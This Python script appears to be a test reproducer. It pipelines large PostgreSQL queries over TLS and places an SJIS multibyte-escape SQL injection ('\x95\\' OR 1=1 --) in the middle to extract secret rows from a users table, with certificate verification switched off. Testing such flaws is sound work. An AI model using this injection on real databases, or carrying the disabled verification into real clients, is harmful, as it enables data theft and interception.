"""A non-blocking PostgreSQL client over TLS (Python's ssl, the system
OpenSSL) that writes a pipeline of large simple queries in one go, with an
attack in the middle, and reads the answers only when OpenSSL says it cannot
write more (SSL_ERROR_WANT_WRITE): every retry repeats the failed write with
the same bytes, as OpenSSL requires.  Prints how many writes had to wait,
the errors, the secret rows, and a digest of every other row.
   python3 pg_tls_pipeline.py HOST PORT USER DATABASE MARKER QUERIES"""
import hashlib
import re
import select
import socket
import ssl
import struct
import sys

host, port, user, database, marker, queries = sys.argv[1:7]
queries = int(queries)

raw = socket.create_connection((host, int(port)))
raw.sendall(struct.pack("!ii", 8, 80877103))
if raw.recv(1) != b"S":
    sys.exit("the server refused TLS")
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
sock = ctx.wrap_socket(raw)

params = b"user\0" + user.encode() + b"\0database\0" + database.encode() + b"\0\0"
sock.sendall(struct.pack("!ii", 8 + len(params), 196608) + params)

inbox = bytearray()
ready = 0
errors = []
secrets = []
digest = hashlib.sha256()


def take_messages():
    """Parses what arrived: counts ReadyForQuery, keeps errors and rows."""
    global ready
    while len(inbox) >= 5:
        kind = inbox[0:1]
        length = struct.unpack("!i", inbox[1:5])[0]
        if len(inbox) < 1 + length:
            return
        body = bytes(inbox[5:1 + length])
        del inbox[:1 + length]
        if kind == b"Z":
            ready += 1
        elif kind == b"E":
            fields = dict((f[:1], f[1:]) for f in body.split(b"\0") if f)
            errors.append(fields.get(b"M", b"").decode("latin-1"))
        elif kind == b"D":
            if b"secret_" in body:
                secrets.append(body)
            else:
                digest.update(body)


def read_some(block):
    """Reads what the server sent: one wait for it when block is true, else
    all that is there now."""
    sock.setblocking(block)
    try:
        while True:
            chunk = sock.recv(1 << 16)
            if not chunk:
                sys.exit("the server closed the connection")
            inbox.extend(chunk)
            if block:
                break
    except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
        pass
    take_messages()


def query(sql):
    return b"Q" + struct.pack("!i", 4 + len(sql) + 1) + sql + b"\0"


while ready < 1:
    read_some(True)
sock.sendall(query(b"SET standard_conforming_strings = off; SET client_encoding = 'SJIS'"))
while ready < 2:
    read_some(True)
ready = 0

pad = b"x" * 20000
attack = (b"SELECT /*" + marker.encode() + b"*/ secret FROM users WHERE name = '\x95\\' OR 1=1 --'")
stream = b"".join(
    query(attack) if i == queries // 2 else
    query(b"SELECT /*" + pad + b"*/ " + str(i).encode() + b", repeat('y', 20000)")
    for i in range(queries))

view = memoryview(stream)
sent = 0
waits = 0
sock.setblocking(False)
while sent < len(stream):
    try:
        sent += sock.send(view[sent:])
    except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
        waits += 1
        read_some(False)
        select.select([sock], [sock], [], 1.0)
while ready < queries:
    read_some(True)

print("WAITED:", "yes" if waits > 0 else "no")
print("READY:", ready)
for e in errors:
    print("ERROR:", e)
for s in secrets:
    print("ROW:", re.search(rb"secret_[a-z]+", s).group().decode())
print("DIGEST:", digest.hexdigest())
sock.sendall(query(b"SELECT 'alive'"))
ready = 0
while ready < 1:
    read_some(True)
print("ALIVE: yes")
